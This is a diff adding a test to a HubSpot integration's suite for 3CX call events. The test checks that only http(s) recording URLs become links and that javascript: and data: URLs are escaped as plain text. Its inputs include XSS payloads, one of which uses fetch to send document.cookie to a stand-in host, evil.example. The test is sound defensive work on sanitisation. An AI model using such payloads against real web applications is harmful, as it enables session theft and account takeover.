@@ -164,6 +164,38 @@ describe('HubSpot target', () => {
     expect(body).not.toContain('Look-alike');
   });
 
+  it('links only http(s) recordings in the body; a javascript: or data: URL is shown as text', async () => {
+    const { hs, send, settle } = await open();
+    const urls = [
+      'javascript:fetch(`//evil.example/`+document.cookie)//x.ogg',
+      ' JavaScript:alert(1)',
+      'data:text/html,<script>alert(1)</script>',
+      'https://pbx.example.com/r/a.ogg?x=1&y="2"',
+    ];
+    await send('3cx', {
+      method: 'POST',
+      contentType: 'application/json',
+      body: JSON.stringify({
+        Event: 'incoming',
+        Callerid: '420774852629',
+        User: '117',
+        Finishtype: 'Ok',
+        Duration: '00:05',
+        Id: '260701100000_9-1',
+        FileUrls: urls,
+      }),
+    });
+    await settle();
+    const body = [...hs.calls.values()][0]!.properties.hs_call_body!;
+    const hrefs = [...body.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
+    expect(hrefs).toEqual(['https://pbx.example.com/r/a.ogg?x=1&amp;y=&quot;2&quot;']);
+    expect(body).toContain('<b>Recording:</b> javascript:fetch(`//evil.example/`+document.cookie)');
+    expect(body).toContain(
+      '<b>Recording:</b> data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
+    );
+    expect(body).not.toContain('<script>');
+  });
+
   it('associates the contact with that number, verified by digits, and caches the lookup', async () => {
     const { hs, send, settle } = await open(
       '    agents:\n      "102": alice@example.com\n      "117": "90001"\n',
